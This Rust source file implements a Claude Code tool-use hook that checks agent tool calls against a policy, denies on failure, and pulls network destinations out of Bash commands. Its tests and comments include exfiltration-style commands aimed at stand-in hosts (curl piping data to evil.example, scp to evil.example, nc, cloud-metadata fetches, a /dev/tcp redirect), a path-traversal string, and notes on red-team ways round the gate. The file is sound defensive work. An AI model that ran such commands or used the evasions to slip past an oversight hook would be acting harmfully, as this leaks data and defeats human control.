//! `conductor hook claude-code`: a Claude Code / Claude Agent SDK command hook for
//! `PreToolUse` and `PostToolUse`, over the shared gate service.
//!
//! JSON in on stdin (the hook input), the hook answer out on stdout:
//! - `PreToolUse`: `{"hookSpecificOutput": {"hookEventName": "PreToolUse",
//!   "permissionDecision": "allow"|"ask"|"deny", "permissionDecisionReason": …}}`,
//!   exit 0. `approve` is `ask`; a deny's reasons are the text the model reads.
//! - `PostToolUse`: the tool's response raises the labels of the agent's session
//!   (kept in the audit database, shared by every hook process); `{}` on success.
//!
//! INVARIANT: every failure — input that cannot be read, an unreadable policy, an
//! audit store or session store that cannot be opened, a panic — answers `deny` on
//! stdout, the reason on stderr, and exits 2, the status Claude Code treats as
//! blocking (any other non-zero status lets the tool run).

use std::io::{self, Read, Write};
use std::path::PathBuf;
use std::sync::Arc;

use clap::{Args, Subcommand};
use conductor_audit::{AuditOptions, AuditStore};
use conductor_core::{Check, Effect, Reason};
use conductor_gate::{Call, Service, ServiceOptions, SqliteStore, Subject};
use conductor_types::{JsonPath, RuleId};
use serde_json::{Map, Value, json};

use crate::resolve::ResolveArgs;

/// The largest hook input accepted, in bytes.
pub const MAX_INPUT_BYTES: usize = 16 * 1024 * 1024;

/// The status Claude Code treats as a blocking error.
pub const BLOCK: u8 = 2;

const AFTER_HELP: &str = "\
In .claude/settings.json (or the Agent SDK's settings):
  {\"hooks\": {
     \"PreToolUse\":  [{\"matcher\": \"*\", \"hooks\": [{\"type\": \"command\",
        \"command\": \"conductor hook claude-code --policy /path/policy.yaml --agent claude-code --resident\"}]}],
     \"PostToolUse\": [{\"matcher\": \"*\", \"hooks\": [{\"type\": \"command\",
        \"command\": \"conductor hook claude-code --policy /path/policy.yaml --agent claude-code --resident\"}]}]}}

Built-in tools are decided as `claude.<Tool>` (`claude.Bash`, `claude.WebFetch`,
`claude.Read`…); MCP tools `mcp__<server>__<tool>` as `<server>.<tool>`.
Exit status: 0 with the answer on stdout; 2 (blocking) on any failure, with a deny
answer on stdout and the reason on stderr. Docs: docs/claude-code.md";

/// `conductor hook …`
#[derive(Debug, Subcommand)]
pub enum HookCommand {
    /// A Claude Code / Claude Agent SDK `PreToolUse` and `PostToolUse` command hook.
    #[command(name = "claude-code", after_help = AFTER_HELP)]
    ClaudeCode(ClaudeCodeArgs),
}

/// Arguments of `conductor hook claude-code`.
#[derive(Debug, Clone, Args)]
pub struct ClaudeCodeArgs {
    /// The policy file (YAML, version 1).
    #[arg(long, value_name = "FILE")]
    pub policy: PathBuf,
    /// The agent Claude Code acts as (an `agents:` entry of the policy).
    #[arg(long, value_name = "ID")]
    pub agent: String,
    /// The workflow every call belongs to.
    #[arg(long, value_name = "NAME")]
    pub workflow: Option<String>,
    /// The audit store, which also keeps the session labels (default:
    /// `conductor/audit.db` in the user's data directory).
    #[arg(long, value_name = "PATH")]
    pub audit: Option<PathBuf>,
    #[command(flatten)]
    pub resolve: ResolveArgs,
    /// Keep a resident gate between calls: the hook hands its input to it over a
    /// private Unix socket instead of loading the policy and opening the stores in every
    /// process; when none is running, the call is decided in this process and one is
    /// started for the next calls. The same answers either way (docs/claude-code.md).
    #[arg(long)]
    pub resident: bool,
    /// How long the resident gate waits for a next call before it ends.
    #[arg(
        long,
        value_name = "SECONDS",
        default_value_t = 600,
        requires = "resident"
    )]
    pub resident_idle: u64,
    /// How long a call waits for the resident gate's answer; past it the call is refused.
    #[arg(
        long,
        value_name = "SECONDS",
        default_value_t = 5,
        requires = "resident"
    )]
    pub resident_timeout: u64,
    /// Run as the resident gate (started by the hook itself; not for people).
    #[arg(long, hide = true)]
    pub resident_serve: bool,
}

pub fn run(cmd: HookCommand) -> u8 {
    match cmd {
        HookCommand::ClaudeCode(args) => {
            if args.resident_serve {
                return crate::hook_resident::serve(&args);
            }
            // INVARIANT: a panic still answers deny with the blocking status.
            std::panic::set_hook(Box::new(|_| {
                std::process::exit(i32::from(emit(&Outcome::internal())));
            }));
            let bytes = match read_input() {
                Ok(b) => b,
                Err(message) => return emit(&Outcome::refused(&message)),
            };
            if !args.resident {
                return in_process(&args, &bytes, || {});
            }
            match crate::hook_resident::ask(&args, &bytes) {
                crate::hook_resident::Asked::Answered(out) => emit(&out),
                crate::hook_resident::Asked::Refused(message) => emit(&Outcome::refused(&message)),
                crate::hook_resident::Asked::Absent { start } => in_process(&args, &bytes, || {
                    if start {
                        crate::hook_resident::start();
                    }
                }),
            }
        }
    }
}

/// What one hook call answers: the JSON on stdout, the exit status, and the line for
/// stderr (which never quotes the input).
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Outcome {
    pub answer: Value,
    pub code: u8,
    pub warning: Option<String>,
}

impl Outcome {
    /// The blocking deny for a failure.
    pub(crate) fn refused(message: &str) -> Outcome {
        Outcome {
            answer: failure_answer(&format!("conductor refused the call: {message}")),
            code: BLOCK,
            warning: Some(format!("error: {message}; the call is refused")),
        }
    }

    /// The blocking deny for a failure inside Conductor (a panic).
    pub(crate) fn internal() -> Outcome {
        let reason = "conductor failed internally; the call is refused";
        Outcome {
            answer: failure_answer(reason),
            code: BLOCK,
            warning: Some("error: internal failure; the call is refused".into()),
        }
    }

    fn answered(answer: Value) -> Outcome {
        Outcome {
            answer,
            code: crate::exit::OK,
            warning: None,
        }
    }
}

/// Print `out` (warning on stderr, answer on stdout) and return its exit status; an
/// answer that cannot be written is a blocking failure.
fn emit(out: &Outcome) -> u8 {
    if let Some(w) = &out.warning {
        crate::warn(format_args!("{w}"));
    }
    match write_answer(&out.answer) {
        Ok(()) => out.code,
        Err(e) => {
            crate::warn(format_args!(
                "error: cannot answer: {e}; the call is refused"
            ));
            BLOCK
        }
    }
}

/// Decide the call in this process: load the policy, open the stores, decide, answer;
/// `after` runs once the answer is out (and before the process ends).
fn in_process(args: &ClaudeCodeArgs, bytes: &[u8], after: impl FnOnce()) -> u8 {
    let input = match parse_checked(bytes) {
        Ok(i) => i,
        Err(message) => {
            let code = emit(&Outcome::refused(&message));
            after();
            return code;
        }
    };
    let (service, audit_path) = match build_service(args, Lifetime::OneCall) {
        Ok(s) => s,
        Err(message) => {
            let code = emit(&Outcome::refused(&message));
            after();
            return code;
        }
    };
    let (out, committed) = decide_input(args, &service, input);
    let code = emit(&out);
    after();
    if committed && code == out.code {
        exit_answered(&audit_path, code);
    }
    drop(service);
    code
}

/// The deny answer for a failure (valid for `PreToolUse`; `PostToolUse` reads the
/// top-level `decision`/`reason`).
fn failure_answer(reason: &str) -> Value {
    json!({
        "decision": "block",
        "reason": reason,
        "hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "deny",
            "permissionDecisionReason": reason,
        }
    })
}

fn write_answer(answer: &Value) -> io::Result<()> {
    let mut out = io::stdout().lock();
    writeln!(out, "{answer}")?;
    out.flush()
}

/// The parts of a hook input the gate reads.
pub(crate) struct HookInput {
    event: String,
    session: String,
    tool_name: String,
    tool_input: Value,
    tool_response: Option<Value>,
}

fn parse_input(bytes: &[u8]) -> Result<HookInput, String> {
    let text = std::str::from_utf8(bytes).map_err(|_| "the hook input is not UTF-8".to_string())?;
    // INVARIANT: a duplicated member could be read differently by another reader of
    // the same input; it is refused (serde_json keeps the last one).
    let value: Value = strict_parse(text)?;
    let Value::Object(mut m) = value else {
        return Err("the hook input is not a JSON object".into());
    };
    let text_of = |m: &Map<String, Value>, k: &str| -> Result<String, String> {
        match m.get(k) {
            Some(Value::String(s)) => Ok(s.clone()),
            Some(_) => Err(format!("`{k}` in the hook input is not a string")),
            None => Err(format!("the hook input has no `{k}`")),
        }
    };
    let event = text_of(&m, "hook_event_name")?;
    let session = text_of(&m, "session_id")?;
    let tool_name = text_of(&m, "tool_name")?;
    let tool_input = match m.remove("tool_input") {
        Some(v @ Value::Object(_)) => v,
        Some(_) => return Err("`tool_input` in the hook input is not an object".into()),
        None => return Err("the hook input has no `tool_input`".into()),
    };
    Ok(HookInput {
        event,
        session,
        tool_name,
        tool_input,
        tool_response: m.remove("tool_response"),
    })
}

/// Parse JSON, refusing what readers could read differently (duplicate members, or
/// names equal under case folding, at any depth): the reader every transport uses.
fn strict_parse(text: &str) -> Result<Value, String> {
    conductor_types::strict::parse(text.as_bytes())
        .map_err(|e| format!("the hook input is not valid JSON ({})", position_only(&e)))
}

/// A JSON error's message without any quoted input (it may hold secrets).
fn position_only(e: &serde_json::Error) -> String {
    conductor_types::strict::position_only(e)
}

/// The hook input from stdin, at most [`MAX_INPUT_BYTES`].
fn read_input() -> Result<Vec<u8>, String> {
    let mut bytes = Vec::new();
    io::stdin()
        .lock()
        .take(u64::try_from(MAX_INPUT_BYTES).unwrap_or(u64::MAX) + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| format!("cannot read the hook input: {}", crate::io_reason(&e)))?;
    if bytes.len() > MAX_INPUT_BYTES {
        return Err(format!(
            "the hook input is longer than {MAX_INPUT_BYTES} bytes"
        ));
    }
    Ok(bytes)
}

/// The hook input, parsed, for an event the hook handles.
pub(crate) fn parse_checked(bytes: &[u8]) -> Result<HookInput, String> {
    let input = parse_input(bytes)?;
    if input.event != "PreToolUse" && input.event != "PostToolUse" {
        return Err(format!(
            "hook event `{}` is not handled (only `PreToolUse` and `PostToolUse`)",
            conductor_net::canon::safe(&input.event)
        ));
    }
    Ok(input)
}

/// The answer to `input`, decided by `service`, and whether everything it depends on
/// (the decision's record, the raised labels) is committed.
pub(crate) fn decide_input(
    args: &ClaudeCodeArgs,
    service: &Service,
    input: HookInput,
) -> (Outcome, bool) {
    let (tool, server) = tool_name(&input.tool_name);
    let subject = Subject {
        agent: args.agent.clone(),
        workflow: args.workflow.clone(),
        session: input.session.clone(),
        server,
        auth: None,
    };
    if input.event == "PostToolUse" {
        let response = input.tool_response.unwrap_or(Value::Null);
        return match service.label(&subject, &response) {
            Ok(_) => (Outcome::answered(json!({})), true),
            Err(e) => {
                let reason = format!(
                    "conductor could not record the labels of what `{}` returned ({e}); do not use its result",
                    conductor_net::canon::safe(&input.tool_name)
                );
                (
                    Outcome {
                        answer: json!({
                            "decision": "block",
                            "reason": reason,
                            "hookSpecificOutput": {"hookEventName": "PostToolUse", "additionalContext": reason},
                        }),
                        code: BLOCK,
                        warning: Some(format!("error: {reason}")),
                    },
                    false,
                )
            }
        };
    }
    let call = build_call(&tool, &input.tool_name, input.tool_input);
    let verdict = service.decide_blocking(&subject, call);
    let d = &verdict.decision;
    let (decision, reason) = match (verdict.forward, d.decision) {
        (true, _) => (
            "allow",
            format!("conductor: `{tool}` allowed by policy {}", d.policy),
        ),
        (false, Effect::Approve) => (
            "ask",
            format!(
                "conductor: `{tool}` needs a person's approval: {}",
                reasons_text(&d.reasons)
            ),
        ),
        (false, _) => (
            "deny",
            format!("conductor denied `{tool}`: {}", reasons_text(&d.reasons)),
        ),
    };
    (
        Outcome::answered(json!({
            "hookSpecificOutput": {
                "hookEventName": "PreToolUse",
                "permissionDecision": decision,
                "permissionDecisionReason": reason,
            }
        })),
        true,
    )
}

/// The write-ahead log size past which an answered hook closes its stores normally,
/// which copies the log back into the database and truncates it.
pub const WAL_CLOSE_BYTES: u64 = 4 * 1024 * 1024;

/// End the process once the answer is out, without closing the stores.
///
/// Closing the last connection to the audit database checkpoints it (the WAL copied
/// back, three fsyncs, the WAL and shared-memory files deleted, to be created again by
/// the next hook process a moment later): most of a call's store time. Everything the
/// call needed is committed already — the decision's record (`decide_blocking` returns
/// after the commit) or the raised labels — so ending here is what SQLite is built to
/// survive (as a crash after commit would be); the next process reads the WAL as it is.
/// So that the WAL stays bounded, a process that finds it past [`WAL_CLOSE_BYTES`]
/// returns and closes normally instead.
///
/// INVARIANT: called only after the answer is written and flushed, and only on paths
/// where every record and label the answer depends on is committed.
fn exit_answered(audit: &std::path::Path, code: u8) {
    let mut wal = audit.as_os_str().to_os_string();
    wal.push("-wal");
    let small = std::fs::metadata(&wal).is_ok_and(|m| m.len() < WAL_CLOSE_BYTES);
    if small {
        std::process::exit(i32::from(code));
    }
}

/// The reasons as one line each: `check (rule): message`.
fn reasons_text(reasons: &[Reason]) -> String {
    if reasons.is_empty() {
        return "no reason given".into();
    }
    reasons
        .iter()
        .map(|r| format!("{} ({}): {}", r.check.name(), r.rule, r.message))
        .collect::<Vec<_>>()
        .join("; ")
}

/// How long the stores of a service stay open.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lifetime {
    /// One call, then the process ends (no background checkpointer).
    OneCall,
    /// The resident gate: many calls.
    Resident,
}

/// The service a hook call is decided by, and the audit store's path.
pub(crate) fn build_service(
    args: &ClaudeCodeArgs,
    lifetime: Lifetime,
) -> Result<(Service, PathBuf), String> {
    let resolver = args
        .resolve
        .build()
        .map_err(|e| format!("invalid `--resolve`: {e}"))?;
    let policy = crate::load_policy(&args.policy).map_err(|e| match e {
        crate::CliError::Policy { error, path } => {
            format!("invalid policy `{path}`: {error}")
        }
        other => other.to_string(),
    })?;
    let key = conductor_gate::load_fingerprint_key().map_err(|e| e.to_string())?;
    let audit_path = args
        .audit
        .clone()
        .or_else(conductor_audit::default_path)
        .ok_or_else(|| {
            "no audit store: name one with `--audit PATH` (or set `XDG_DATA_HOME` or `HOME`)"
                .to_string()
        })?;
    if let Some(dir) = audit_path.parent()
        && !dir.as_os_str().is_empty()
    {
        let _ = std::fs::create_dir_all(dir);
    }
    // One call per process: no background checkpointer (see `exit_answered`).
    let store = match lifetime {
        Lifetime::OneCall => AuditStore::open_short_lived(&audit_path, AuditOptions::default()),
        Lifetime::Resident => AuditStore::open(&audit_path, AuditOptions::default()),
    }
    .map_err(|e| format!("the audit store cannot be opened: {e}"))?;
    let sessions = SqliteStore::open(&audit_path)
        .map_err(|e| format!("the session labels cannot be kept: {e}"))?;
    Ok((
        Service::new(
            policy,
            resolver,
            Arc::new(key),
            Arc::new(store),
            Arc::new(sessions),
            ServiceOptions::default(),
        ),
        audit_path,
    ))
}

/// The policy's name for a Claude Code tool, and the MCP server it goes to.
///
/// `mcp__<server>__<tool>` is `<server>.<tool>`; any other name is a built-in tool,
/// `claude.<Tool>`. A name the split cannot read one way only (a server or tool part
/// holding `__`, or an empty part) keeps a name no policy rule can match: the core
/// denies it (check `input`).
pub fn tool_name(name: &str) -> (String, Option<String>) {
    if let Some(rest) = name.strip_prefix("mcp__") {
        // INVARIANT: `mcp__a__b__c` could be server `a` tool `b__c` or server `a__b`
        // tool `c`; deciding either could decide another tool than the one that runs.
        return match rest.split_once("__") {
            Some((server, tool))
                if !server.is_empty() && !tool.is_empty() && !tool.contains("__") =>
            {
                (format!("{server}.{tool}"), Some(server.to_string()))
            }
            _ => (format!("mcp__ ambiguous {name}"), None),
        };
    }
    (format!("claude.{name}"), None)
}

/// The member of a `claude.Bash` call's arguments that holds the destinations the
/// hook found in the command line.
pub const BASH_DESTINATIONS: &str = "destinations";

/// The call the gate decides for a tool use.
fn build_call(tool: &str, raw_name: &str, tool_input: Value) -> Call {
    let mut problems = Vec::new();
    let mut pointers = Vec::new();
    let mut arguments = tool_input;
    if tool.starts_with("mcp__ ambiguous") {
        problems.push(Reason {
            check: Check::Input,
            rule: RuleId::request("tool"),
            message: format!(
                "the MCP tool name `{}` does not split one way into `mcp__<server>__<tool>`",
                conductor_net::canon::safe(raw_name)
            ),
        });
    }
    if !tool.contains('.') || tool.starts_with("claude.") {
        for key in PATH_MEMBERS {
            if let Some(Value::String(path)) = arguments.get(*key)
                && let Some(problem) = path_problem(path)
            {
                problems.push(Reason {
                    check: Check::Input,
                    rule: RuleId::request("arguments"),
                    message: format!("`/{key}` {problem}"),
                });
            }
        }
    }
    match raw_name {
        "WebFetch" => pointers.push(JsonPath::root().key("url")),
        "WebSearch" => pointers.push(JsonPath::root().key("allowed_domains")),
        "Bash" => {
            let command = arguments
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_string();
            let found = command_destinations(&command);
            if let Value::Object(m) = &mut arguments {
                if m.contains_key(BASH_DESTINATIONS) {
                    problems.push(Reason {
                        check: Check::Input,
                        rule: RuleId::request("arguments"),
                        message: format!(
                            "the Bash input already has a `{BASH_DESTINATIONS}` member, which the gate fills"
                        ),
                    });
                }
                m.insert(
                    BASH_DESTINATIONS.to_string(),
                    Value::Array(found.into_iter().map(Value::String).collect()),
                );
            }
            pointers.push(JsonPath::root().key(BASH_DESTINATIONS));
        }
        _ => {}
    }
    let mut call = Call::new("hook", tool, arguments);
    call.pointers = pointers;
    call.problems = problems;
    call
}

/// The members of built-in tools' inputs that name files (`Read`, `Write`, `Edit`,
/// `MultiEdit`: `file_path`; `NotebookEdit`: `notebook_path`; `Glob`, `Grep`, `LS`:
/// `path`).
const PATH_MEMBERS: &[&str] = &["file_path", "notebook_path", "path"];

/// Why a path cannot be decided as written: `when` globs match the text, so the text
/// must be the file the tool opens.
///
/// INVARIANT: `/home/dev/project/../../../etc/passwd` matches `/home/dev/project/**`
/// as text; a path that is not absolute, has `.`/`..`/empty segments, or (when it
/// exists) reaches its file through a symbolic link is refused.
fn path_problem(path: &str) -> Option<String> {
    if !path.starts_with('/') {
        return Some("is not an absolute path".into());
    }
    let body = match path.strip_suffix('/') {
        Some(b) if !b.is_empty() => b,
        _ => path,
    };
    if body.len() > 1
        && body
            .split('/')
            .skip(1)
            .any(|seg| seg.is_empty() || seg == "." || seg == "..")
    {
        return Some("has `.`, `..` or empty segments".into());
    }
    let shown = |p: &std::path::Path| conductor_net::canon::safe(&p.display().to_string());
    match std::fs::canonicalize(path) {
        Ok(real) if real.as_os_str() != std::ffi::OsStr::new(body) => {
            return Some(format!(
                "reaches its file through a symbolic link (it is `{}`)",
                shown(&real)
            ));
        }
        Ok(_) => {}
        // A file that does not exist yet (a `Write` creates it): the tool follows links
        // on the way to it, so its nearest existing directory must be reached without
        // one, and the name itself must not be a link that points nowhere yet.
        Err(_) => {
            if std::fs::symlink_metadata(body).is_ok() {
                return Some("is a symbolic link to a file that does not exist".into());
            }
            let mut dir = std::path::Path::new(body).parent();
            while let Some(d) = dir {
                if let Ok(real) = std::fs::canonicalize(d) {
                    if real != d {
                        return Some(format!(
                            "reaches its directory through a symbolic link (`{}` is `{}`)",
                            shown(d),
                            shown(&real)
                        ));
                    }
                    break;
                }
                dir = d.parent();
            }
        }
    }
    None
}

/// Programs whose operands name hosts (downloaders, remote shells, sockets, DNS).
const NETWORK_PROGRAMS: &[&str] = &[
    "curl", "wget", "http", "https", "xh", "aria2c", "nc", "ncat", "netcat", "socat", "telnet",
    "ssh", "scp", "sftp", "rsync", "ftp", "tftp", "ping", "ping6", "dig", "nslookup", "host",
    "whois", "openssl", "git", "lynx", "links", "w3m", "fetch",
];

/// Options of the network programs whose value is never a host (a file, a header, a
/// body, a method). Only options that take a value in every program listed: an option
/// that takes none in one of them (`curl -O`, `curl -i`) would hide the host after it.
/// A URL inside a skipped value is still found (`-d url=http://…`).
const VALUE_OPTIONS: &[&str] = &[
    "-o",
    "-H",
    "-d",
    "-X",
    "-A",
    "--output",
    "--header",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-urlencode",
    "--request",
    "--user-agent",
    "--max-time",
    "--write-out",
    "--output-document",
    "--connect-timeout",
    "--retry",
];

/// The destinations a shell command line names: every word with a URL scheme,
/// `/dev/tcp/<host>/<port>` redirections, `user@host:` remote specs, and the
/// operands of network programs (`curl 2852039166`, `nc 10.0.0.1 80`, `ssh host`).
///
/// This is a reader of shell words, not a shell: it over-approximates (a word it
/// cannot place is taken as a destination when a network program is on the line) so
/// that a destination is not missed; a false destination denies, never allows.
pub fn command_destinations(command: &str) -> Vec<String> {
    destinations_at(command, 0)
}

/// How deep quoted commands are read again (`bash -c '…'`, `sh -c "eval '…'"`).
const NESTED_COMMANDS: usize = 4;

fn destinations_at(command: &str, depth: usize) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut push = |s: &str| {
        let s = s.trim_matches(|c: char| matches!(c, '"' | '\'' | '\\'));
        if !s.is_empty() && !out.iter().any(|o| o == s) {
            out.push(s.to_string());
        }
    };
    // As bash reads it: words split at unquoted whitespace and operators, then quote
    // removal (`\curl`, `c""url`, `cu'rl'` and `cur\<newline>l` all run curl; a quoted
    // header value stays one word).
    let owned = shell_words(command);
    let words: Vec<&str> = owned.iter().map(String::as_str).collect();
    let unquoted = owned.join(" ");
    // A quoted word that is itself a command (`bash -c '…'`, `ssh host '…'`, `eval`)
    // is read again as one.
    if depth < NESTED_COMMANDS {
        for w in &words {
            if w.contains(char::is_whitespace) || w.contains(['<', '>', ';', '|', '&']) {
                for d in destinations_at(w, depth + 1) {
                    push(&d);
                }
            }
        }
    }
    let mut in_network = false;
    let mut copier = false;
    let mut url_program = false;
    let mut skip_next = false;
    for w in &words {
        let lower = w.to_ascii_lowercase();
        if lower.contains("://") {
            push(w);
        }
        if let Some(rest) = lower
            .strip_prefix("/dev/tcp/")
            .or_else(|| lower.strip_prefix("/dev/udp/"))
            && let Some(host) = rest.split('/').next()
        {
            push(host);
        }
        let program = w.rsplit('/').next().unwrap_or(w);
        if NETWORK_PROGRAMS.contains(&program) {
            in_network = true;
            copier = matches!(program, "scp" | "rsync");
            url_program = URL_PROGRAMS.contains(&program);
            skip_next = false;
            continue;
        }
        if !in_network {
            continue;
        }
        if skip_next {
            skip_next = false;
            continue;
        }
        if w.starts_with('-') {
            let name = w.split('=').next().unwrap_or(w);
            if VALUE_OPTIONS.contains(&name) && !w.contains('=') {
                skip_next = true;
            }
            continue;
        }
        // `git clone`, `openssl s_client`: sub-commands are not hosts.
        if matches!(
            *w,
            "clone"
                | "fetch"
                | "pull"
                | "push"
                | "ls-remote"
                | "remote"
                | "add"
                | "s_client"
                | "-connect"
                | "sudo"
                | "env"
        ) {
            continue;
        }
        if let Some((_, host)) = w.split_once('@') {
            // `user@host:path` (scp, rsync, git), `user@host` (ssh).
            let host = host.split(':').next().unwrap_or(host);
            push(host);
            continue;
        }
        // scp and rsync name remote files `host:path`; other operands are local.
        if copier && !w.contains(':') {
            continue;
        }
        if copier && looks_like_host(w) {
            push(w.split(':').next().unwrap_or(w));
        } else if looks_like_host(w) || (url_program && w.bytes().all(|b| b.is_ascii_digit())) {
            // A number operand of a downloader is a URL (`curl 0` fetches 0.0.0.0,
            // this host), never a port.
            push(w.trim_end_matches(':'));
        }
    }
    // And whatever names a host anywhere in the command, for any program (the reader
    // above knows the downloaders; `redis-cli -h 10.0.0.5`, `DOCKER_HOST=10.0.0.5:2375`,
    // `smbclient //10.0.0.5/share`, `mysql -h10.0.0.5` are found here): the scan of
    // `destinations.scan`, on the command as bash reads it.
    for (start, end) in conductor_net::find_in_text(&unquoted) {
        if let Some(hit) = unquoted.get(start..end) {
            push(hit);
        }
    }
    out
}

/// The words of a shell command after quote removal, split where bash splits them:
/// unquoted whitespace and operators, with backslash escapes and line continuations
/// (a backslash before a newline) outside single quotes.
fn shell_words(command: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let (mut single, mut double) = (false, false);
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '\\' if !single => match chars.next() {
                Some('\n') => {}
                Some('\r') if chars.peek() == Some(&'\n') => {
                    chars.next();
                }
                Some(n) => cur.push(n),
                None => {}
            },
            c if !single
                && !double
                && (c.is_whitespace()
                    || matches!(
                        c,
                        ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`' | '$' | '{' | '}'
                    )) =>
            {
                if !cur.is_empty() {
                    words.push(std::mem::take(&mut cur));
                }
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() {
        words.push(cur);
    }
    words
}

/// The network programs whose operands are URLs (never a port or a file).
const URL_PROGRAMS: &[&str] = &[
    "curl", "wget", "http", "https", "xh", "aria2c", "lynx", "links", "w3m", "fetch",
];

/// A word that could name a host: a dotted name or address, a number (a decimal
/// IPv4 address: `2852039166`), a hex number, an IPv6 address, or `host:port`.
fn looks_like_host(w: &str) -> bool {
    if w.is_empty() || w.starts_with('/') || w.starts_with('.') || w.starts_with('~') {
        return false;
    }
    let head = w.split('/').next().unwrap_or(w);
    if head.chars().all(|c| c.is_ascii_digit()) {
        // A port number after a host (`nc host 80`) is a number too: short numbers
        // (at most 5 digits) are ports, longer ones addresses.
        return head.len() > 5;
    }
    if head.starts_with("0x") || head.starts_with("0X") {
        return true;
    }
    if head.contains(':')
        && head
            .chars()
            .all(|c| c.is_ascii_hexdigit() || c == ':' || c == '[' || c == ']' || c == '.')
    {
        return true;
    }
    head.contains('.')
        && head
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '[' | ']'))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "test code: a panic is a test failure")]
mod tests {
    use super::*;

    #[test]
    fn mcp_names_split_one_way() {
        assert_eq!(
            tool_name("mcp__fetch__fetch"),
            ("fetch.fetch".to_string(), Some("fetch".to_string()))
        );
        assert_eq!(tool_name("Bash").0, "claude.Bash");
        assert!(tool_name("mcp__a__b__c").0.starts_with("mcp__ ambiguous"));
        assert!(tool_name("mcp____x").0.starts_with("mcp__ ambiguous"));
    }

    #[test]
    fn paths_are_decided_only_as_the_file_they_open() {
        assert!(path_problem("/home/dev/project/src/main.rs").is_none());
        assert!(path_problem("/home/dev/project/../../../etc/passwd").is_some());
        assert!(path_problem("/home/dev/project/./x").is_some());
        assert!(path_problem("/home/dev//project").is_some());
        assert!(path_problem("src/main.rs").is_some());
        assert!(path_problem("/").is_none());
        let dir = tempfile::tempdir().unwrap();
        let real = dir.path().canonicalize().unwrap();
        std::fs::write(real.join("f"), "x").unwrap();
        std::os::unix::fs::symlink(real.join("f"), real.join("link")).unwrap();
        assert!(path_problem(real.join("f").to_str().unwrap()).is_none());
        assert!(path_problem(real.join("link").to_str().unwrap()).is_some());
        // Regression (red-team review 2026-12-04, round 2, H2): a new file under a
        // symbolically linked directory (a cloned repository's `docs -> ~/.ssh`) matched
        // the project's glob as text and was written through the link.
        std::fs::create_dir(real.join("secret")).unwrap();
        std::os::unix::fs::symlink(real.join("secret"), real.join("docs")).unwrap();
        let through = real.join("docs/new/authorized_keys");
        let why = path_problem(through.to_str().unwrap()).expect("a new file through a link");
        assert!(why.contains("directory through a symbolic link"), "{why}");
        // A link that points nowhere yet is refused too; a new file in a real directory
        // is not.
        std::os::unix::fs::symlink(real.join("secret/absent"), real.join("dangling")).unwrap();
        assert!(path_problem(real.join("dangling").to_str().unwrap()).is_some());
        assert!(path_problem(real.join("new/deeper/file").to_str().unwrap()).is_none());
    }

    #[test]
    fn bash_destinations_as_bash_reads_the_command() {
        // Regression (red-team review 2026-12-04, round 2, H1): quoting and escapes hid
        // the program (`\curl`, `c""url`, `cu'rl'`, a line continuation), operands of
        // programs the reader did not know were not looked at, and `curl 0` (0.0.0.0,
        // this host) read as a port. Bash fetched the stand-in loopback service for each.
        for (command, host) in [
            ("\\curl -s 127.0.0.1:8765/", "127.0.0.1:8765/"),
            ("c\"\"url -s 127.0.0.1:8765/", "127.0.0.1:8765/"),
            ("cu'rl' -s 127.0.0.1:8765/", "127.0.0.1:8765/"),
            ("cur\\\nl -s 127.0.0.1:8765/", "127.0.0.1:8765/"),
            ("curl -s localhost:8765/", "localhost:8765/"),
            ("curl 0", "0"),
            ("n\\c 169.254.169.254 80", "169.254.169.254"),
            ("redis-cli -h 10.0.0.5", "10.0.0.5"),
            ("mysql -h10.0.0.5", "10.0.0.5"),
            ("PGHOST=10.0.0.5 psql", "10.0.0.5"),
            ("smbclient //10.0.0.5/share", "//10.0.0.5/share"),
            ("DOCKER_HOST=10.0.0.5:2375 docker ps", "10.0.0.5:2375"),
            (
                "curl metadata/computeMetadata/v1/",
                "metadata/computeMetadata/v1/",
            ),
        ] {
            let d = command_destinations(command);
            assert!(d.iter().any(|x| x == host), "{command:?}: {d:?}");
        }
        // Commands without a host name none.
        for command in [
            "ls -la src",
            "cargo test -p conductor-cli",
            "grep -rn 'fn main' .",
            "echo \"Content-Type: application/json\"",
        ] {
            assert!(command_destinations(command).is_empty(), "{command}");
        }
        // A quoted header of a downloader is one word, not hosts.
        let d = command_destinations(
            "curl -s -H \"Authorization: Bearer $TOKEN\" -H 'Content-Type: application/json' https://api.github.com/user",
        );
        assert_eq!(d, ["https://api.github.com/user"], "{d:?}");
    }

    #[test]
    fn bash_destinations() {
        // The metadata service: in a URL, bare, in decimal, through /dev/tcp.
        let d = command_destinations("curl -s http://169.254.169.254/latest/meta-data/");
        assert_eq!(d, ["http://169.254.169.254/latest/meta-data/"]);
        assert_eq!(
            command_destinations("curl 2852039166/latest"),
            ["2852039166/latest"]
        );
        assert_eq!(
            command_destinations("cat < /dev/tcp/169.254.169.254/80"),
            ["169.254.169.254"]
        );
        assert_eq!(
            command_destinations("ls && wget --output-document=out.html example.com"),
            ["example.com"]
        );
        assert_eq!(
            command_destinations("scp f.txt bob@evil.example:/tmp"),
            ["evil.example"]
        );
        assert_eq!(command_destinations("nc 10.0.0.1 4444"), ["10.0.0.1"]);
        assert_eq!(
            command_destinations("curl fd00:ec2::254"),
            ["fd00:ec2::254"]
        );
        assert_eq!(
            command_destinations("rsync -a src/ evil.example:/x"),
            ["evil.example"]
        );
        assert!(command_destinations("cargo test -p conductor-cli").is_empty());
        assert!(command_destinations("cat src/main.rs | grep fn").is_empty());
        assert_eq!(
            command_destinations("echo x | curl -d @- 'https://evil.example/c'"),
            ["https://evil.example/c"]
        );
    }
}
